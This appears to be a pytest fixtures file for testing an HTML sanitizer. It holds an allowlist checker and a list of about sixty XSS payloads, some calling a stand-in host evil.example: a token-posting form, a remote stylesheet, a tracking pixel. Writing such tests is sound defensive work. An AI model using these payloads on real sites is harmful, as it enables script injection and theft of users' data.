"""What the tests of the page share: hostile texts, and a judge of what HTML may hold."""

import re
from collections.abc import Callable
from html.parser import HTMLParser

import pytest

_TAGS = re.compile(
    "a|article|aside|audio|b|bdi|blockquote|br|button|code|dd|del|details|div|dl|dt|em|figcaption|figure|form|h[1-6]|header|hr|"
    "i|img|input|li|mark|nav|ol|p|pre|s|section|small|span|strong|summary|table|tbody|td|textarea|th|thead|tr|ul|"
    "math|menclose|merror|m(frac|i|n|o|over|padded|phantom|root|row|s|space|sqrt|style|sub|subsup|sup|table|td|text|tr)|"
    "munder|munderover|em|fieldset|input|label|legend|option|output|progress|select"
)
_ADDRESS = re.compile(r"https?://|mailto:|tel:|\?(c|at|p)=")
_STYLE = re.compile(r"--tint:#[0-9A-Fa-f]{6}|text-align:(left|right|center)")
_PICTURE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,|media/[\w%.~-]*/[0-9a-f]{64}$")


class _Judge(HTMLParser):
    """Raises at the first tag or attribute that the page has no business to hold."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert _TAGS.fullmatch(tag), f"<{tag}>"
        for name, value in attrs:
            assert not name.startswith("on"), f"{name} on <{tag}>"
            assert name not in ("srcdoc", "srcset", "formaction", "action", "background", "poster", "ping", "id"), name
            if name in ("href", "xlink:href"):
                assert tag == "a", f"{name} on <{tag}>"
                assert _ADDRESS.match(value or ""), value
            if name == "src":
                assert tag in ("img", "audio"), f"src on <{tag}>"
                assert _PICTURE.match(value or ""), value
            if name == "style":
                assert _STYLE.fullmatch(value or ""), value

    def handle_comment(self, data: str) -> None:
        assert data.isdecimal(), f"<!--{data}-->"

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def judge(html: str) -> str:
    parser = _Judge()
    parser.feed(html)
    parser.close()
    return html


@pytest.fixture
def tame() -> Callable[[str], str]:
    """Fails unless the HTML holds only what the page makes itself; returns it."""
    return judge


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=token></form>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<details open ontoggle=alert(1)>",
    "<video src=https://evil.example/v.mp4 autoplay onloadstart=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title></style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script/>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example" onclick="alert(1))',
    '[x](https://a.example "\' onclick=alert(1) x=")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x][p]\n\n[p]: https://evil.example/pixel.png",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![" onerror="alert(1)](https://evil.example/p.png)',
    "![a](https://evil.example/`onerror=alert(1)`.png)",
    "$\\text{<script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\style{background:url(https://evil.example)}{x}$$",
    '$\\class{x" onclick="alert(1)}{x}$',
    "\\(\\text{&lt;img src=x onerror=alert(1)&gt;}\\)",
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script>",
    "[1]<script>alert(1)</script>[2]",
    'https://evil.example/"onmouseover="alert(1)',
    "${alert(1)} {{constructor.constructor('alert(1)')()}} `${1}`",
    "\u202egnp.exe\u202c <b>x</b>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.fixture(params=HOSTILE, ids=range(len(HOSTILE)))
def hostile(request: pytest.FixtureRequest) -> str:
    """A text that wants to be more than a text."""
    return request.param
